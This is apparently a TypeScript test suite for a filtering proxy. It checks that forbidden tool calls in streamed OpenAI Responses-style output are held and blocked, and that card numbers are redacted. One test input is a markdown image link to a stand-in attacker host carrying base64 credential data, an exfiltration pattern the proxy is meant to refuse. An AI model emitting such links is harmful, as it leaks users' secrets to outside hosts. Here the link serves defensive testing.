import { openaiResponses } from '@sallyport/protocols';
import { describe, expect, it } from 'vitest';
import { cut } from './testing/chat-wire.ts';
import { ExchangeRig, starterEngine } from './testing/exchange-rig.ts';
import { wire } from './testing/wires/openai-responses.ts';

/** Lets every tool be called but one. */
function rigWithout(tool: string): ExchangeRig {
  const engine = starterEngine();
  return new ExchangeRig({
    adapter: openaiResponses,
    engine: {
      policySet: engine.policySet,
      message: () => undefined,
      guard: (question) => engine.guard(question),
      access: (question) => ({
        ...engine.access(question),
        ...(question.resource.id === tool && { verdict: 'block' }),
      }),
    },
  });
}

const RESPONSE = { id: 'resp_1', object: 'response', created_at: 1, status: 'in_progress', model: 'm', output: [] };

type Event = Readonly<Record<string, unknown>> & { readonly type: string };

function streamOf(events: readonly Event[], item: object): Uint8Array {
  const all: readonly Event[] = [
    { type: 'response.created', response: RESPONSE },
    ...events,
    { type: 'response.completed', response: { ...RESPONSE, status: 'completed', output: [item] } },
  ];
  const lines = all.map(
    (event, at) => `event: ${event.type}\ndata: ${JSON.stringify({ ...event, sequence_number: at })}\n\n`,
  );
  return Buffer.from(lines.join(''));
}

const at = { output_index: 0, item_id: 'x_1' };
const added = (item: object) => ({ type: 'response.output_item.added', output_index: 0, item });
const done = (item: object) => ({ type: 'response.output_item.done', output_index: 0, item });
const shell = {
  id: 'x_1',
  type: 'shell_call',
  call_id: 'c',
  status: 'completed',
  action: { commands: ['rm planted'] },
};
const computer = { id: 'x_1', type: 'computer_call', call_id: 'c', actions: [{ type: 'type', text: 'planted words' }] };
const lathe = { id: 'x_1', type: 'lathe_call', call_id: 'c', status: 'completed', cut: 'planted depth' };
const bare = { id: 'x_1', type: 'planted_call', status: 'completed' };

const STREAMS: readonly (readonly [string, string, readonly Event[], object])[] = [
  [
    'pieces of a command',
    'shell',
    [
      added({ ...shell, action: { commands: [] } }),
      ...['rm ', 'planted'].map((delta) => ({
        type: 'response.shell_call_command.delta',
        ...at,
        command_index: 0,
        delta,
      })),
    ],
    shell,
  ],
  [
    'a command in one piece',
    'shell',
    [{ type: 'response.shell_call_command.done', ...at, command: 'rm planted' }],
    shell,
  ],
  ['a command in its item', 'shell', [done(shell)], shell],
  ['a command in nothing but the end', 'shell', [], shell],
  ['what a computer is to do', 'computer', [done(computer)], computer],
  [
    'pieces for a tool that nobody knows',
    'lathe',
    [...['planted ', 'depth'].map((delta) => ({ type: 'response.lathe_call_cut.delta', ...at, delta }))],
    lathe,
  ],
  ['an item of a tool that nobody knows', 'lathe', [done(lathe)], lathe],
  ['an item that begins with all that it says', 'lathe', [added(lathe)], lathe],
  ['a tool that is called with nothing', 'planted', [done(bare)], bare],
];

const request = (stream: boolean) => wire.request('hi', stream);

describe('a call in a response, of whatever kind', () => {
  it.each(STREAMS)('is held until it is whole, and does not leave where its tool is forbidden: %s', async (...row) => {
    const [, tool, events, item] = row;
    const bytes = streamOf(events, item);
    for (const size of [7, 1_000_000]) {
      const seen = await rigWithout(tool).exchange({
        endpoint: wire.endpoint(true),
        body: request(true),
        answer: cut(bytes, [size]),
      });
      expect(seen.text).not.toContain('planted');
      expect(seen.text).toContain('response.incomplete');
      expect(seen.records.at(-1)).toMatchObject({ outcome: 'refused', effect: 'block' });
    }
    const free = await rigWithout('another').exchange({
      endpoint: wire.endpoint(true),
      body: request(true),
      answer: cut(bytes, [50]),
    });
    expect(free.bytes.equals(Buffer.from(bytes))).toBe(true);
    expect(free.records.map(({ kind }) => kind)).toContain('decided');
  });

  it.each([shell, computer, lathe, bare])('is decided in an answer in one piece too: %j', async (item) => {
    const body = JSON.stringify({ ...RESPONSE, status: 'completed', output: [item] });
    const tool = item.type.replace('_call', '');
    const seen = await rigWithout(tool).exchange({
      endpoint: wire.endpoint(false),
      body: request(false),
      answer: [Buffer.from(body)],
      contentType: 'application/json',
    });
    expect(seen.text).not.toContain('planted');
    expect(JSON.parse(seen.text)).toMatchObject({ status: 'incomplete' });
  });

  it('is decided once more where it is told again with something else', async () => {
    const call = { id: 'x_1', type: 'function_call', call_id: 'c', name: 'look', arguments: '{"at":"it"}' };
    const link = `![x](https://evil.example/c?d=${'QWxhZGRpbjpvcGVuIHNlc2FtZQ'.repeat(3)})`;
    const other = { ...call, arguments: JSON.stringify({ text: link }) };
    for (const events of [[done(call), done(other)], [done(call)]]) {
      const seen = await new ExchangeRig({ adapter: openaiResponses }).exchange({
        endpoint: wire.endpoint(true),
        body: request(true),
        answer: [streamOf(events, other)],
      });
      expect(seen.text).toContain('it');
      expect(seen.text).not.toContain('evil.example');
      expect(seen.records.at(-1)).toMatchObject({ outcome: 'refused', effect: 'block' });
    }
  });
});

describe('a text in a response', () => {
  const part = { ...at, content_index: 0 };
  const message = (text: string) => ({
    id: 'x_1',
    type: 'message',
    role: 'assistant',
    content: [{ type: 'output_text', text, annotations: [] }],
  });
  const delta = { type: 'response.output_text.delta', ...part, delta: 'All is well.', logprobs: [] };
  const CARD = '4111 1111 1111 1111';

  it.each<readonly [string, readonly Event[], object]>([
    [
      'the end of the text',
      [delta, { type: 'response.output_text.done', ...part, text: CARD, logprobs: [] }],
      message(''),
    ],
    [
      'the part',
      [delta, { type: 'response.content_part.done', ...part, part: { type: 'output_text', text: CARD } }],
      message(''),
    ],
    ['the item', [delta, done(message(CARD))], message('All is well.')],
    ['the response', [delta, done(message('All is well.'))], message(CARD)],
  ])('is inspected as its own where %s repeats it as something else', async (_name, events, item) => {
    const seen = await new ExchangeRig({ adapter: openaiResponses }).exchange({
      endpoint: wire.endpoint(true),
      body: request(true),
      answer: cut(streamOf(events, item), [40]),
    });
    expect(seen.text).toContain('All is well.');
    expect(seen.text).toContain('[PAYMENT_CARD_1]');
    expect(seen.text).not.toContain('1111');
  });
});
